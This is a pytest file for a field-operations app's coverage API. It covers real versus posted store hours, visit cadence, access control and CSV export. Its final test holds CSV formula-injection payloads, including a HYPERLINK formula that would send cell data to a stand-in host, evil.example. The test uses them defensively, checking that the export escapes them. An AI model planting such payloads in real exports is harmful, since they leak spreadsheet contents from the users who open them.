"""/api/coverage and /api/coverage.csv: real vs posted coverage, visit cadence, access."""

from __future__ import annotations

import csv
import io
from datetime import time, timedelta
from functools import partial

import pytest

from fieldops.extensions import db
from fieldops.hours.models import HoursBasis, RealHours
from fieldops.shifts.models import ShiftKind
from fieldops.visits.models import VisitStatus
from tests.coverage import helpers

# NOW: Wednesday 2026-03-04 15:00 UTC (09:00 in Chicago).
WEEK = "from=2026-03-02&days=7"


# The shifts here are remote, weekdays 08:00-18:00 unless told.
add_shift = partial(helpers.add_shift, end=time(18), kind=ShiftKind.REMOTE)


def learn(app, store, hours: dict[int, tuple[time, time] | None]) -> None:
    with app.app_context():
        for weekday, span in hours.items():
            db.session.add(
                RealHours(
                    store_id=store.id,
                    weekday=weekday,
                    opens=span[0] if span else None,
                    closes=span[1] if span else None,
                    sample_days=8,
                    confidence=0.9,
                    basis=HoursBasis.OBSERVED,
                )
            )
        db.session.commit()


def item(client, query: str, code: str) -> dict:
    body = client.get(f"/api/coverage?{query}").get_json()
    return next(i for i in body["items"] if i["code"] == code)


def test_real_hours_beyond_posted_show_the_gap(now, app, build, as_cio):
    # Posted Mon-Sat 09:00-20:00; customers really stay to 21:30 on Fridays.
    store = build.store(code="LATE", region="Midwest")
    learn(app, store, {4: (time(9), time(21, 30))})
    add_shift(app, region="Midwest", start=time(8), end=time(20))  # Mon-Fri 08:00-20:00
    found = item(as_cio, WEEK, "LATE")
    # posted: 6 x 660 = 3960, covered Mon-Fri 5 x 660 = 3300 -> 83.33 %
    assert found["posted"] == {
        "customer_minutes": 3960,
        "covered_minutes": 3300,
        "percent": 83.33,
        "gaps": found["posted"]["gaps"],
    }
    # real: Friday 750 instead of 660 -> 4050, covered still 3300 -> 81.48 %
    assert (found["real"]["customer_minutes"], found["real"]["covered_minutes"]) == (4050, 3300)
    assert found["real"]["percent"] == 81.48
    friday_gap = found["real"]["gaps"][0]
    assert friday_gap == {
        "start": "2026-03-06T20:00:00-06:00",
        "end": "2026-03-06T21:30:00-06:00",
        "minutes": 90,
    }


def test_real_equal_to_posted_gives_equal_coverage(now, app, build, as_cio):
    store = build.store(code="SAME")
    learn(app, store, {d: (time(9), time(20)) for d in range(6)} | {6: None})
    add_shift(app, stores=[store])
    found = item(as_cio, WEEK, "SAME")
    assert found["real"] == found["posted"]


def test_a_shift_listing_stores_covers_only_those(now, app, build, as_cio):
    listed = build.store(code="LIST", region="Midwest")
    build.store(code="OTHER", region="Midwest")
    add_shift(app, stores=[listed], region="Midwest")
    assert item(as_cio, WEEK, "LIST")["posted"]["covered_minutes"] == 5 * 540
    assert item(as_cio, WEEK, "OTHER")["posted"]["covered_minutes"] == 0  # same region, not listed


def test_default_period_is_today_and_the_next_27_days(now, build, as_cio):
    build.store(code="DFLT")
    body = as_cio.get("/api/coverage").get_json()
    assert body["items"][0]["from"] == "2026-03-04" and body["items"][0]["days"] == 28
    assert body["total"] == 1 and body["page"] == 1 and body["per_page"] == 50


def test_totals_and_region_filter(now, app, build, as_cio):
    build.store(code="A", region="West")
    build.store(code="B", region="East")
    body = as_cio.get(f"/api/coverage?{WEEK}&region=West").get_json()
    assert [i["code"] for i in body["items"]] == ["A"]
    assert body["totals"]["stores"] == 1
    assert body["totals"]["real"] == {
        "customer_minutes": 3960,
        "covered_minutes": 0,
        "percent": 0.0,
    }


def test_cadence_counts_visits_of_the_last_365_days(now, app, build, as_cio, time_machine):
    store = build.store(code="CAD", cadence_per_year=2)
    helpers.visited(build, store, now, 365, 100)
    visits = item(as_cio, WEEK, "CAD")["visits"]
    assert visits["completed_12m"] == 2 and visits["overdue"] is False  # exactly 365 days: in
    assert visits["due_on"] == "2026-03-04"  # today the older one ages out...
    assert visits["due_soon"] is True  # ... and no visit is planned
    time_machine.move_to(now + timedelta(minutes=1), tick=False)
    visits = item(as_cio, WEEK, "CAD")["visits"]
    assert visits["completed_12m"] == 1 and visits["overdue"] is True


def test_a_planned_visit_saves_a_store_from_due_soon(now, build, as_cio):
    store = build.store(code="SAVE", cadence_per_year=1)
    engineer = build.user("engineer")
    build.visit(
        store,
        engineer,
        now - timedelta(days=350),
        status=VisitStatus.COMPLETED,
        checked_out_at=now - timedelta(days=350),
    )
    assert item(as_cio, WEEK, "SAVE")["visits"]["due_soon"] is True  # overdue in 15 days
    build.visit(store, engineer, now + timedelta(days=7))
    saved = item(as_cio, WEEK, "SAVE")["visits"]
    assert saved["due_soon"] is False and saved["next_planned"].startswith("2026-03-11")


def test_csv_lists_every_store(now, build, as_cio):
    for code in ("C1", "C2", "C3"):
        build.store(code=code)
    r = as_cio.get(f"/api/coverage.csv?{WEEK}&per_page=1")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))
    assert [row["code"] for row in rows] == ["C1", "C2", "C3"]
    assert rows[0]["real_customer_minutes"] == "3960" and rows[0]["real_percent"] == "0.0"


@pytest.mark.parametrize("role", ["engineer", "manager"])
def test_only_admins_and_the_cio_see_coverage(now, login, role, world):
    client = login(getattr(world, role))
    assert client.get("/api/coverage").status_code == 403
    assert client.get("/api/coverage.csv").status_code == 403


def test_bad_arguments_name_the_field(now, as_cio):
    assert "from" in as_cio.get("/api/coverage?from=2026-02-30").get_json()["errors"]
    assert "days" in as_cio.get("/api/coverage?days=0").get_json()["errors"]
    assert "sort" in as_cio.get("/api/coverage?sort=height").get_json()["errors"]


def test_worst_first_by_default(now, app, build, as_cio):
    good = build.store(code="GOOD")
    build.store(code="BAD")
    add_shift(app, stores=[good], weekdays=list(range(7)), start=time(0), end=time(0))
    codes = [i["code"] for i in as_cio.get(f"/api/coverage?{WEEK}").get_json()["items"]]
    assert codes == ["BAD", "GOOD"]


FORMULAS = {
    "EQ": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "PLUS": "+1+1",
    "MINUS": "-5 dBm store",
    "AT": "@SUM(1,1)",
}
CONTROL = {"TAB": "\t=1+1", "CR": "\r=1+1"}


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(now, build, as_cio, as_admin):
    """Store names and regions come from people; a cell starting like a formula gets a
    leading apostrophe (OWASP), while numbers stay numbers."""
    admin = as_admin
    for code, text in FORMULAS.items():
        store = {"code": code, "name": text, "region": text, "timezone": "America/Chicago"}
        assert admin.post("/api/stores", json=store).status_code == 201
    for code, text in CONTROL.items():  # older data: the API may refuse these characters
        build.store(code=code, name=text, region=text)
    r = as_cio.get(f"/api/coverage.csv?{WEEK}")
    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(r.get_data(as_text=True)))}
    for code, text in {**FORMULAS, **CONTROL}.items():
        assert rows[code]["name"] == rows[code]["region"] == "'" + text
        assert rows[code]["days"] == "7" and rows[code]["cadence"] == "2"
